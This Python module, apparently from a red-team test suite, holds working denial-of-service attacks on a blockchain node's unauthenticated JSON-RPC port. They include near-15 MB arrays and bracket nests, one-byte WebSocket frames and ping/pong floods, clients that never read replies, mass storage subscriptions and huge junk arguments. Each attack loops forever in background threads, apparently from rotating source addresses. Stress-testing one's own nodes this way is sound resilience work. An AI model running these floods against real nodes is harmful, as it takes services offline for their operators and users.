"""Attacks of a client without any key on the JSON-RPC port."""

from __future__ import annotations

import json
import os
import select
import socket
import threading
from collections.abc import Callable
from contextlib import suppress

from scripts.redteam_suite.peers import sources
from scripts.redteam_suite.rpc_wire import (
    CONTINUATION,
    PING,
    PONG,
    TEXT,
    RpcFailed,
    WebSocket,
    call_json,
    connect,
    frame,
    http_request,
    post,
)
from scripts.redteam_suite.target import Target

MB = 1_000_000
LARGEST = 15_700_000
"""Bytes of the largest message: a little less than the 15 MiB that a node accepts."""
PAUSE_S = 0.1
CHUNK = 64 * 1024
SMALL_BUFFER = 4_096
UNREAD_CLIENTS, UNREAD_CALLS = 96, 60
SUBSCRIBERS, SUBSCRIPTIONS_EACH, KEYS = 8, 50, 4_096

Task = Callable[[], None]


def forever(task: Task, pause_s: float = PAUSE_S) -> None:
    """Repeat an attack in a separate thread, whatever the node does."""
    waiting = threading.Event()

    def run() -> None:
        while True:
            with suppress(OSError, RpcFailed, ValueError):
                task()
            waiting.wait(pause_s)

    threading.Thread(target=run, daemon=True).start()


def over_http(port: int, source: str, body: bytes) -> Task:
    """Return a task that posts the same body over one HTTP connection without end."""

    def task() -> None:
        with connect(port, source) as sock:
            while True:
                post(sock, body)

    return task


def over_websocket(port: int, source: str, body: bytes) -> Task:
    """Return a task that sends the same message over one WebSocket without end."""

    def task() -> None:
        client = WebSocket(port, source)
        with client.sock:
            while True:
                client.send(body)
                client.receive()

    return task


def many_entries(target: Target) -> None:
    """Send one message of very many entries, and a batch of maximum length with large ones (row 1)."""
    arrays = [b"[" + b"1," * (size // 2) + b"1]" for size in (300_000, MB, LARGEST)]
    full = json.dumps([[0] * 600] * 100).encode()
    brackets = b"[" + b"[]," * (LARGEST // 3 - 1) + b"[]]"
    source = sources()
    for body in (*arrays, full, brackets):
        forever(over_http(target.rpc, source(), body))
        forever(over_websocket(target.rpc, source(), body))


def tiny_frames(target: Target) -> None:
    """Send messages in frames of one byte, unsolicited pongs, and pings; read no pongs (row 8)."""
    fragments = frame(CONTINUATION, b"1", final=False) * (CHUNK // 7)
    source = sources()

    def in_pieces() -> None:
        client = WebSocket(target.rpc, source())
        with client.sock:
            client.sock.sendall(frame(TEXT, b"[", final=False))
            while True:
                client.sock.sendall(fragments)

    def controls(opcode: int) -> None:
        client = WebSocket(target.rpc, source(), buffer=SMALL_BUFFER)
        with client.sock:
            while True:
                client.sock.sendall(frame(opcode, b"") * (CHUNK // 6))

    for task in (
        in_pieces,
        in_pieces,
        lambda: controls(PONG),
        lambda: controls(PONG),
        lambda: controls(PING),
    ):
        forever(task)


def unread_replies(target: Target) -> None:
    """Let 96 clients request the metadata 60 times, and read nothing (row 9)."""
    source, call = sources(), call_json("state_getMetadata", [])

    def hold(sock: socket.socket) -> None:
        """Wait until the node ends the connection; read nothing."""
        ended = select.poll()
        ended.register(sock, select.POLLRDHUP)
        ended.poll()

    def websocket() -> None:
        client = WebSocket(target.rpc, source(), buffer=SMALL_BUFFER)
        with client.sock:
            client.sock.sendall(frame(TEXT, call) * UNREAD_CALLS)
            hold(client.sock)

    def http() -> None:
        with connect(target.rpc, source(), buffer=SMALL_BUFFER) as sock:
            sock.sendall(http_request(target.rpc, call) * UNREAD_CALLS)
            hold(sock)

    for number in range(UNREAD_CLIENTS):
        forever(http if number % 3 == 0 else websocket, 1.0)


def many_subscriptions(target: Target) -> None:
    """Open 400 subscriptions to 4,096 storage keys each (row 15)."""
    source = sources()

    def task() -> None:
        client = WebSocket(target.rpc, source())
        with client.sock:
            for number in range(SUBSCRIPTIONS_EACH):
                keys = ["0x" + os.urandom(32).hex() for _ in range(KEYS)]
                client.send(call_json("state_subscribeStorage", [keys], number))
            while True:
                client.feed()
                client.next_message()

    for _ in range(SUBSCRIBERS):
        forever(task, 1.0)


def junk_arguments(target: Target) -> None:
    """Send 15 MB of nested junk as the argument of one call (row 16)."""
    strings = [["x" * 65_000] * 24] * 10
    values = [["y" * 230] * 1_000] * 60
    calls = [
        call_json("state_getStorage", [strings]),
        call_json("chain_getBlockHash", [values]),
        call_json("author_submitExtrinsic", [{"a": strings}]),
        call_json("broker_requestSwapDepositAddress", [values, strings[:1]]),
        call_json("state_getKeysPaged", {"prefix": values}),
    ]
    source = sources()
    for call in calls:
        forever(over_http(target.rpc, source(), call))
        forever(over_websocket(target.rpc, source(), call))


ATTACKS: dict[str, Callable[[Target], None]] = {
    "1": many_entries,
    "8": tiny_frames,
    "9": unread_replies,
    "15": many_subscriptions,
    "16": junk_arguments,
}
